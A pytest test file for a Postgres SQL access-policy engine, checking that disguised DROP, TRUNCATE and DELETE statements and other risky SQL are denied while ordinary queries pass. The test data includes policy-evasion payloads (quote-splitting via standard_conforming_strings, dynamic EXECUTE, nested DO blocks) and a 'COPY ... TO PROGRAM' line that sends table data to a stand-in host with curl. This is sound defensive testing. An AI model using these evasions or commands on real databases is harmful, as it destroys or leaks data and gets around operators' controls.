"""The policy: every disguise of a denied statement is denied; ordinary reads pass (notes §9)."""

from __future__ import annotations

from typing import Any

import pytest

from jitctl.config import Rule
from jitctl.errors import ConfigError
from jitctl_postgres.classify import classify, classify_function_call
from jitctl_postgres.policy import Decision, Policy


def rule(action: str, name: str = "", **match: Any) -> Rule:
    return Rule.model_validate({"name": name, "match": match, "action": action})


NO_DESTROY = Policy([rule("deny", "no-destroy", statement=["drop", "truncate", "delete"])])


def decide(policy: Policy, sql: str, groups: tuple[str, ...] = ()) -> Decision:
    return policy.decide(classify(sql), groups)


DISGUISES = [
    # plain, case, whitespace, comments
    "DROP TABLE t",
    "drop table t",
    "dRoP tAbLe t",
    "DROP\tTABLE\nt",
    "DROP\fTABLE\rt",
    "   \n\n  TRUNCATE t   ",
    "DROP/**/TABLE/**/t",
    "/* DROP? no: */ DELETE FROM t",
    "/* outer /* nested */ still a comment */ DROP TABLE t",
    "-- a comment\nDROP TABLE t",
    "DELETE -- trailing comment\nFROM t",
    "DROP TABLE IF EXISTS t CASCADE",
    'DROP TABLE "odd ""name"""',
    'DROP TABLE U&"d\\0061ta"',
    "DROP TABLE U&\"d!0061ta\" UESCAPE '!'",
    "DROP SCHEMA s CASCADE",
    "DROP DATABASE d",
    "DROP INDEX CONCURRENTLY i",
    "DROP OWNED BY bob",
    "TRUNCATE ONLY t RESTART IDENTITY",
    "DELETE FROM t USING u WHERE t.id = u.id",
    # multi-statement strings
    "SELECT 1; DROP TABLE t",
    "SELECT 1;;; DELETE FROM t;",
    "BEGIN; SELECT 1; TRUNCATE t; COMMIT",
    "SELECT 'DROP TABLE t'; DROP TABLE t",
    # writes inside reads
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING *) SELECT * FROM a",
    "WITH x AS (SELECT 1) DELETE FROM t",
    "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO log SELECT * FROM d",
    "COPY (DELETE FROM t RETURNING *) TO STDOUT",
    "EXPLAIN ANALYZE DELETE FROM t",
    "EXPLAIN ANALYSE DELETE FROM t",
    "EXPLAIN (ANALYZE, FORMAT JSON) DELETE FROM t",
    "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",  # PG17+
    # indirection
    "PREPARE p AS DELETE FROM t",
    "PREPARE p(int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)",
    "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
    "CREATE RULE r AS ON UPDATE TO t DO ALSO (NOTIFY ch; DELETE FROM u)",
    "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN DROP TABLE t; END$$",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
    "CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
    # SQL run by functions, from a string
    "SELECT dblink_exec('dbname=postgres user=app', 'DROP TABLE t')",
    "SELECT dblink_exec('host=db', 'TRUNC' || 'ATE t')",
    # DO blocks: static, dynamic, quoted every way, other languages
    "DO $$BEGIN DELETE FROM t; END$$",
    "DO $x$BEGIN DROP TABLE t; END$x$",
    "DO 'BEGIN TRUNCATE t; END'",
    "DO E'BEGIN DELETE FROM \\x74; END'",
    "do $$ begin if true then delete from t; end if; end $$",
    "DO $$DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP DROP TABLE t; END LOOP; END$$",
    "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$",
    "DO $$BEGIN EXECUTE 'DR' || 'OP TABLE t'; END$$",
    "DO $$BEGIN EXECUTE format('DROP TABLE %I', 't'); END$$",
    "DO $$DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM t RETURNING 1' LOOP "
    "END LOOP; END$$",
    "DO $a$BEGIN EXECUTE $b$DO $c$BEGIN DROP TABLE t; END$c$$b$; END$a$",
    "DO $o$BEGIN DO $i$BEGIN TRUNCATE t; END$i$; END$o$",
    "DO LANGUAGE plpython3u $$plpy.execute('DROP TABLE t')$$",
    "DO $$BEGIN EXECUTE 'DROP TABLE t'; END$$ LANGUAGE plpgsql",
    # the text does not parse (fail closed)
    "DROP TABLE t WHERE",
    "DELETE FROM t\x00",
    "SELECT 1; DELETE FRM t",
]


@pytest.mark.parametrize("sql", DISGUISES, ids=[repr(d[:60]) for d in DISGUISES])
def test_every_disguise_of_drop_truncate_delete_is_denied(sql: str) -> None:
    decision = decide(NO_DESTROY, sql)
    assert decision.action == "deny", decision
    assert decision.rule in ("no-destroy", "builtin: unparseable"), decision


LEXING = [
    "SET standard_conforming_strings = off",
    "SET standard_conforming_strings TO off; SELECT 'a\\'' ; DROP TABLE t; --'",
    "SET LOCAL standard_conforming_strings = 0",
    "RESET standard_conforming_strings",
    "SELECT set_config('standard_conforming_strings', 'off', false)",
    "SELECT set_config('standard_' || 'conforming_strings', 'off', false)",
    "DO $$BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END$$",
    "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
    "ALTER ROLE CURRENT_USER SET standard_conforming_strings = off",
    "SET client_encoding = 'SJIS'",
    "SET NAMES 'GBK'",
    "SET backslash_quote = on",
    "SET escape_string_warning = off",
]


@pytest.mark.parametrize("sql", LEXING, ids=[repr(s[:60]) for s in LEXING])
def test_changing_how_text_is_lexed_is_denied_by_the_builtin_guard(sql: str) -> None:
    decision = decide(NO_DESTROY, sql)
    assert (decision.action, decision.rule) == ("deny", "builtin: lexing_change")
    assert "lexed" in decision.reason


def test_scs_off_split_is_stopped_by_the_guard_not_by_the_rules() -> None:
    """§9: after SET scs=off the server runs DROP TABLE t from this text; pglast sees one SELECT.

    So the text alone is allowed (no parse can see the DROP), and the SET that would make it
    dangerous is what the guard denies, in any statement position, whatever the rules say.
    """
    split = "SELECT 'a\\'' ; DROP TABLE t; --'"
    assert decide(NO_DESTROY, split).action == "allow"
    allow_all = Policy([rule("allow", "anything")])
    setting = "SET standard_conforming_strings = off"
    for sql in (setting, f"SELECT 1; {setting}; {split}"):
        decision = decide(allow_all, sql)
        assert (decision.action, decision.rule) == ("deny", "builtin: lexing_change")
        assert decision.statement == "SET standard_conforming_strings = off"


PSQL_LIST_RELATIONS = """SELECT n.nspname as "Schema",
  c.relname as "Name",
  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' \
WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN \
'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as "Type",
  pg_catalog.pg_get_userbyid(c.relowner) as "Owner"
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam
WHERE c.relkind IN ('r','p','v','m','S','f','')
      AND n.nspname <> 'pg_catalog'
      AND n.nspname !~ '^pg_toast'
      AND n.nspname <> 'information_schema'
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 1,2;"""  # psql 15 `\d`, captured with `psql -E`

PSQL_DESCRIBE_PUBLICATIONS = """SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_namespace pn ON p.oid = pn.pnpubid
     JOIN pg_catalog.pg_class pc ON pc.relnamespace = pn.pnnspid
WHERE pc.oid ='16384' and pg_catalog.pg_relation_is_publishable('16384')
UNION
SELECT pubname
     , pg_get_expr(pr.prqual, c.oid)
     , (CASE WHEN pr.prattrs IS NOT NULL THEN
         (SELECT string_agg(attname, ', ')
           FROM pg_catalog.generate_series(0, pg_catalog.array_upper(pr.prattrs::pg_catalog.int2[], 1)) s,
                pg_catalog.pg_attribute
          WHERE attrelid = pr.prrelid AND attnum = prattrs[s])
        ELSE NULL END) FROM pg_catalog.pg_publication p
     JOIN pg_catalog.pg_publication_rel pr ON p.oid = pr.prpubid
     JOIN pg_catalog.pg_class c ON c.oid = pr.prrelid
WHERE pr.prrelid = '16384'
UNION
SELECT pubname
     , NULL
     , NULL
FROM pg_catalog.pg_publication p
WHERE p.puballtables AND pg_catalog.pg_relation_is_publishable('16384')
ORDER BY 1;"""  # noqa: E501 - psql 15 `\d accounts`, one of its queries (`psql -E`), verbatim

PSQL_FIND_TABLE = """SELECT c.oid,
  n.nspname,
  c.relname
FROM pg_catalog.pg_class c
     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace
WHERE c.relname OPERATOR(pg_catalog.~) '^(accounts)$' COLLATE pg_catalog.default
  AND pg_catalog.pg_table_is_visible(c.oid)
ORDER BY 2, 3;"""  # psql 15 `\d accounts`, its first query

ORDINARY = [
    "SELECT 1",
    "select * from accounts where id = 42",
    "SELECT a.id, b.total FROM accounts a JOIN orders b ON b.account_id = a.id WHERE b.total > 10",
    "SELECT c.name, count(*) FROM customers c LEFT JOIN orders o USING (customer_id) "
    "GROUP BY c.name HAVING count(*) > 1 ORDER BY 2 DESC LIMIT 10",
    "WITH recent AS (SELECT * FROM orders WHERE ts > now() - interval '1 day') "
    "SELECT * FROM recent",
    "SELECT 'DROP TABLE t', $$DELETE FROM t$$, E'TRUNCATE\\t'",
    "-- DROP TABLE t\nSELECT 1",
    "/* DELETE FROM t */ SELECT 1",
    'SELECT "drop", "delete" FROM "truncate"',
    "EXPLAIN SELECT * FROM accounts",
    "SHOW search_path",
    "BEGIN; SELECT 1; COMMIT",
    "SET application_name = 'psql'",
    "SET client_encoding = 'UTF8'",
    "RESET ALL",
    "INSERT INTO t VALUES (1)",
    "UPDATE t SET a = 1 WHERE id = 1",
    "SELECT current_setting('standard_conforming_strings')",
    PSQL_LIST_RELATIONS,
    PSQL_FIND_TABLE,
    PSQL_DESCRIBE_PUBLICATIONS,
]


@pytest.mark.parametrize("sql", ORDINARY, ids=[repr(o[:50]) for o in ORDINARY])
def test_ordinary_statements_and_psql_catalog_queries_are_allowed(sql: str) -> None:
    decision = decide(NO_DESTROY, sql)
    assert (decision.action, decision.rule) == ("allow", "default"), decision


GUARDS = [
    ("SET ROLE postgres", "builtin: set_role"),
    ("RESET ROLE", "builtin: set_role"),
    ("SELECT set_config('role', 'postgres', false)", "builtin: set_role"),
    ("SET SESSION AUTHORIZATION postgres", "builtin: session_authorization"),
    ("DISCARD ALL", "builtin: session_authorization"),
    ("COPY t TO PROGRAM 'curl -d @- evil'", "builtin: copy_program"),
    ("COPY t FROM PROGRAM 'id'", "builtin: copy_program"),
    ("COPY t TO '/tmp/leak'", "builtin: copy_file"),
    (
        "CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (f(VALUE))",
        "builtin: shadows_builtin_type",
    ),
    ("CREATE TEMP TABLE int4 (a int)", "builtin: shadows_builtin_type"),
    ("ALTER TYPE mood RENAME TO bool", "builtin: shadows_builtin_type"),
    ("SELECT 1 FRM t", "builtin: unparseable"),
]


@pytest.mark.parametrize(("sql", "guard"), GUARDS, ids=[g[0] for g in GUARDS])
def test_builtin_guards_deny_even_when_a_rule_allows_everything(sql: str, guard: str) -> None:
    policy = Policy([rule("allow", "anything")])
    decision = decide(policy, sql)
    assert (decision.action, decision.rule) == ("deny", guard)
    assert decision.reason and decision.statement


def test_a_type_named_like_a_built_in_one_is_denied_even_where_create_is_allowed() -> None:
    policy = Policy([rule("allow", "ddl", statement=["create", "alter"])])
    decision = decide(policy, "CREATE TEMP TABLE text (a int)")
    assert (decision.action, decision.rule) == ("deny", "builtin: shadows_builtin_type")
    assert decision.reason.startswith("CREATE names a type like a built-in type")
    assert decide(policy, "CREATE TEMP TABLE notes (a text)").action == "allow"


def test_fastpath_function_call_is_denied() -> None:
    decision = Policy([rule("allow")]).decide(classify_function_call(764), ["dba"])
    assert (decision.action, decision.rule) == ("deny", "builtin: fastpath_function_call")


def test_unparseable_text_passes_only_with_a_rule_that_names_unknown() -> None:
    text = "SELECT 1 FRM t"
    denied = decide(NO_DESTROY, text)
    assert (denied.action, denied.rule) == ("deny", "builtin: unparseable")
    assert 'syntax error at or near "t"' in denied.reason
    assert decide(Policy([rule("allow", statement=["select"])]), text).action == "deny"
    explicit = Policy([rule("allow", "legacy", statement=["unknown"], groups=["dba"])])
    assert decide(explicit, text, ("dba",)).action == "allow"
    assert decide(explicit, text, ("eng",)).action == "deny"
    held = decide(Policy([rule("approve", "ask", statement=["unknown"])]), text)
    assert (held.action, held.rule) == ("approve", "ask")


def test_reason_names_the_kind_and_the_rule() -> None:
    decision = decide(NO_DESTROY, "SELECT 1; DROP TABLE t")
    assert decision == Decision(
        "deny", "no-destroy", "DROP is denied by rule 'no-destroy'", "DROP TABLE t"
    )
    hidden = decide(NO_DESTROY, "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d")
    assert hidden.reason == "DELETE is denied by rule 'no-destroy'"
    dynamic = decide(NO_DESTROY, "DO $$BEGIN EXECUTE 'x' || 'y'; END$$")
    assert dynamic.reason == "dynamic SQL (it may do anything) is denied by rule 'no-destroy'"


def test_rule_message_replaces_the_generated_reason() -> None:
    ask = {"match": {"statement": ["drop"]}, "action": "deny", "message": "ask a DBA"}
    policy = Policy([Rule.model_validate(ask)])
    assert decide(policy, "DROP TABLE t").reason == "ask a DBA (rule 'rule 1')"


def test_unnamed_rules_are_numbered_from_one() -> None:
    policy = Policy([rule("allow", statement=["select"]), rule("deny", statement=["drop"])])
    assert decide(policy, "DROP TABLE t").rule == "rule 2"


def test_first_matching_rule_wins() -> None:
    policy = Policy(
        [rule("allow", "dba", groups=["dba"]), rule("deny", "no-drops", statement=["drop"])]
    )
    assert decide(policy, "DROP TABLE t", ("dba",)).action == "allow"
    assert decide(policy, "DROP TABLE t", ("eng",)).action == "deny"


def test_most_severe_statement_decides_a_multi_statement_text() -> None:
    policy = Policy(
        [rule("deny", "no-drops", statement=["drop"]), rule("approve", "ddl", statement=["alter"])]
    )
    held = decide(policy, "SELECT 1; ALTER TABLE t ADD c int; SELECT 2")
    assert (held.action, held.rule, held.statement) == ("approve", "ddl", "ALTER TABLE t ADD c int")
    denied = decide(policy, "ALTER TABLE t ADD c int; DROP TABLE t")
    assert (denied.action, denied.statement) == ("deny", "DROP TABLE t")


def test_default_action_applies_when_no_rule_matches() -> None:
    policy = Policy([rule("allow", statement=["select"])], default_action="deny")
    assert decide(policy, "SELECT 1").action == "allow"
    decision = decide(policy, "INSERT INTO t VALUES (1)")
    reason = "INSERT is denied by default (no rule matched)"
    assert decision == Decision("deny", "default", reason, "INSERT INTO t VALUES (1)")


HIDDEN_WRITES = [
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "SELECT * INTO copy_of_t FROM t",
    "SELECT 1; DELETE FROM t",
    "DO $$BEGIN EXECUTE 'SELECT 1'; END$$",
    "SELECT 1 FRM t",
]


@pytest.mark.parametrize("sql", HIDDEN_WRITES, ids=[repr(h[:40]) for h in HIDDEN_WRITES])
def test_allow_select_does_not_allow_what_hides_inside_a_select(sql: str) -> None:
    """An allow rule fits only when every kind inside is listed; "unknown" only by name."""
    reads = rule("allow", "reads", statement=["select", "explain"])
    policy = Policy([reads], default_action="deny")
    assert decide(policy, sql).action == "deny"
    assert decide(policy, "EXPLAIN ANALYZE DELETE FROM t").action == "deny"
    assert decide(policy, "EXPLAIN SELECT * FROM t").action == "allow"


def test_groups_limit_a_rule_to_members() -> None:
    policy = Policy([rule("deny", "agents-no-writes", statement=["insert"], groups=["agents"])])
    assert decide(policy, "INSERT INTO t VALUES (1)", ("eng", "agents")).action == "deny"
    assert decide(policy, "INSERT INTO t VALUES (1)", ("eng",)).action == "allow"
    assert decide(policy, "INSERT INTO t VALUES (1)").action == "allow"


TABLE_RULES = [
    # (pattern, sql, deny fits?)
    ("secrets", "SELECT * FROM secrets", True),
    ("secrets", "SELECT * FROM vault.secrets", True),  # unqualified pattern: any schema
    ("vault.secrets", "SELECT * FROM vault.secrets", True),
    ("vault.secrets", "SELECT * FROM public.secrets", False),
    ("vault.secrets", "SELECT * FROM secrets", True),  # may resolve to vault via search_path
    ("vault.*", "SELECT * FROM vault.keys k JOIN public.users u ON true", True),
    ("SECRET*", "SELECT * FROM secret_keys", True),
    ("secrets", "INSERT INTO secrets SELECT * FROM other", True),
    ("secrets", "WITH secrets AS (SELECT 1) SELECT * FROM secrets", False),  # a CTE
    ("secrets", "DO $$BEGIN EXECUTE 'SELECT 1'; END$$", True),  # dynamic: could be
]


@pytest.mark.parametrize(
    ("pattern", "sql", "fits"), TABLE_RULES, ids=[f"{t[0]}:{t[1][:40]}" for t in TABLE_RULES]
)
def test_table_patterns_in_deny_rules(pattern: str, sql: str, fits: bool) -> None:
    policy = Policy([rule("deny", "vault", tables=[pattern])])
    assert (decide(policy, sql).action == "deny") is fits


def test_table_patterns_in_allow_rules_must_cover_every_table() -> None:
    policy = Policy([rule("allow", "public", tables=["public.*", "lookup"])], default_action="deny")
    assert decide(policy, "SELECT * FROM public.users JOIN lookup ON true").action == "allow"
    assert decide(policy, "SELECT * FROM public.users JOIN vault.keys ON true").action == "deny"
    assert decide(policy, "SELECT * FROM users").action == "deny"  # schema unknown
    assert decide(policy, "SELECT 1").action == "deny"  # nothing to vouch for


def test_function_patterns() -> None:
    patterns = ["pg_sleep*", "pg_catalog.pg_terminate_backend"]
    policy = Policy([rule("deny", "no-sleep", functions=patterns)])
    assert decide(policy, "SELECT pg_sleep(1)").action == "deny"
    assert decide(policy, "SELECT pg_catalog.pg_sleep_for('1s')").action == "deny"
    assert decide(policy, "SELECT pg_terminate_backend(1)").action == "deny"
    assert decide(policy, "SELECT now()").action == "allow"
    allow = Policy([rule("allow", "safe-fns", functions=["now", "count"])], default_action="deny")
    assert decide(allow, "SELECT count(*), now() FROM t").action == "allow"
    assert decide(allow, "SELECT count(*), pg_sleep(1) FROM t").action == "deny"


def test_bad_statement_words_and_actions_are_refused() -> None:
    with pytest.raises(ConfigError, match="drops"):
        Policy([rule("deny", statement=["drops"])])
    with pytest.raises(ConfigError, match="method do not apply"):
        Policy([rule("allow", method=["GET"])])  # would otherwise fit every statement
    with pytest.raises(ConfigError, match="default_action"):
        Policy([], default_action="maybe")


def test_statement_words_are_case_insensitive() -> None:
    assert decide(Policy([rule("deny", statement=["DROP"])]), "drop table t").action == "deny"


def test_empty_text_is_allowed() -> None:
    assert decide(Policy([], default_action="deny"), "-- nothing").action == "allow"


def test_decisions_are_cached_per_text_and_groups() -> None:
    policy = Policy([rule("deny", statement=["drop"], groups=["agents"])])
    first = decide(policy, "DROP TABLE t", ("agents",))
    assert decide(policy, "DROP TABLE t", ("agents",)) is first
    assert decide(policy, "DROP TABLE t", ()).action == "allow"


TYPE_CASCADES = [
    "ALTER TYPE t ADD ATTRIBUTE b int CASCADE",
    "ALTER TYPE t DROP ATTRIBUTE b CASCADE",
    "ALTER TYPE t ALTER ATTRIBUTE b TYPE text CASCADE",
    "ALTER TYPE t RENAME ATTRIBUTE a TO b CASCADE",
]


@pytest.mark.parametrize("sql", TYPE_CASCADES)
def test_a_rule_on_a_table_fits_altering_a_type_with_cascade(sql: str) -> None:
    """`CREATE TABLE payments OF t`: ALTER TYPE t … CASCADE alters payments, unnamed, so deny
    and approve rules on any table fit it, and an allow rule on tables cannot vouch for it."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "deny"
    assert decide(Policy([rule("approve", "ask", tables=["payments"])]), sql).action == "approve"
    allow_t = Policy([rule("allow", "t", tables=["t"])], default_action="deny")
    assert decide(allow_t, sql).action == "deny"
    # it is still only an ALTER: rules on other kinds, or on functions, do not fit it
    assert decide(NO_DESTROY, sql).action == "allow"
    assert decide(Policy([rule("deny", "f", functions=["*"])]), sql).action == "allow"
    allow_alter = Policy([rule("allow", "ddl", statement=["alter"])], default_action="deny")
    assert decide(allow_alter, sql).action == "allow"


def test_a_type_cascade_is_denied_with_a_reason_that_says_why() -> None:
    decision = decide(
        Policy([rule("deny", "money", tables=["payments"])]),
        "ALTER TYPE t ADD ATTRIBUTE b int CASCADE",
    )
    assert decision.rule == "money"
    assert "tables its text does not name" in decision.reason


@pytest.mark.parametrize("sql", [s.replace(" CASCADE", "") for s in TYPE_CASCADES])
def test_altering_a_type_without_cascade_does_not_fit_rules_on_other_tables(sql: str) -> None:
    """Without CASCADE the server refuses to alter a type that has typed tables."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "allow"


@pytest.mark.parametrize(
    "sql",
    [
        "DROP TRIGGER audit ON payments",
        "DROP POLICY own_rows ON payments",
        "DROP RULE r ON payments",
    ],
)
def test_a_rule_on_a_table_fits_dropping_its_trigger_rule_or_policy(sql: str) -> None:
    """Dropping an audit trigger or a row-level policy changes what the table does."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "deny"


@pytest.mark.parametrize(
    "sql",
    [
        "COMMENT ON TABLE payments IS 'x'",
        "COMMENT ON COLUMN public.payments.amount IS 'x'",
        "SECURITY LABEL ON TABLE payments IS 'x'",
        "SECURITY LABEL FOR selinux ON COLUMN payments.amount IS 'x'",
        "COMMENT ON TRIGGER audit ON payments IS 'x'",
        "COMMENT ON CONSTRAINT payments_pkey ON public.payments IS 'x'",
    ],
)
def test_a_rule_on_a_table_fits_commenting_or_labelling_it(sql: str) -> None:
    """COMMENT and SECURITY LABEL change the table's catalog entry, as ALTER TABLE does."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "deny"


# Each reaches tables its text does not name: payments, with a foreign key to orders (or a
# column of type t, or in schema s, or defaulting to nextval('seq'), …).
CASCADES = [
    "TRUNCATE orders CASCADE",
    "DROP TABLE orders CASCADE",
    "ALTER TABLE orders DROP COLUMN id CASCADE",
    "ALTER TABLE orders DROP CONSTRAINT orders_pkey CASCADE",
    "DROP TYPE t CASCADE",
    "DROP SCHEMA s CASCADE",
    "DROP FUNCTION f CASCADE",
    "DROP SEQUENCE seq CASCADE",
    "DROP OWNED BY bob",
]


@pytest.mark.parametrize("sql", CASCADES)
def test_a_rule_on_a_table_fits_a_cascade_that_reaches_tables_it_does_not_name(sql: str) -> None:
    """TRUNCATE orders CASCADE empties payments, whose foreign key references orders: a deny
    rule on payments fits it, and an allow rule on tables cannot vouch for it."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "deny"
    assert decide(Policy([rule("approve", "ask", tables=["payments"])]), sql).action == "approve"
    allow = Policy([rule("allow", "ok", tables=["orders", "t", "s", "seq"])], "deny")
    assert decide(allow, sql).action == "deny"


def test_truncate_cascade_is_denied_with_a_reason_that_says_why() -> None:
    decision = decide(
        Policy([rule("deny", "money", tables=["payments"])]), "TRUNCATE orders CASCADE"
    )
    assert decision.rule == "money"
    assert "tables its text does not name" in decision.reason


@pytest.mark.parametrize("sql", [s.replace(" CASCADE", "") for s in CASCADES[:-1]])
def test_without_cascade_a_rule_on_another_table_does_not_fit(sql: str) -> None:
    """RESTRICT, the default: the server refuses while payments depends on what is dropped."""
    assert decide(Policy([rule("deny", "money", tables=["payments"])]), sql).action == "allow"


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE TYPE r AS RANGE (subtype = float8, canonical = wipe)",
        "CREATE TYPE r AS RANGE (subtype = float8, subtype_diff = s.wipe)",
        "CREATE OPERATOR !! (rightarg = int, function = wipe)",
        "CREATE AGGREGATE a (int) (sfunc = int4pl, stype = int, finalfunc = wipe)",
        "CREATE TRIGGER x AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION wipe()",
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION s.wipe()",
        "CREATE CAST (text AS status) WITH FUNCTION wipe(text)",
        "CREATE FOREIGN DATA WRAPPER w HANDLER wipe",
        "ALTER FOREIGN DATA WRAPPER w VALIDATOR s.wipe",
        "CREATE OPERATOR CLASS c FOR TYPE int USING btree AS FUNCTION 1 wipe(int, int)",
        "ALTER OPERATOR FAMILY f USING btree ADD FUNCTION 1 (int, int) wipe(int, int)",
        "ALTER OPERATOR === (int, int) SET (RESTRICT = wipe)",
        "ALTER TYPE t SET (SEND = wipe)",
    ],
)
def test_a_rule_on_a_function_fits_ddl_that_binds_it(sql: str) -> None:
    """The server runs a bound function later with no call in the text: bind time decides."""
    assert decide(Policy([rule("deny", "no-wipe", functions=["wipe"])]), sql).action == "deny"
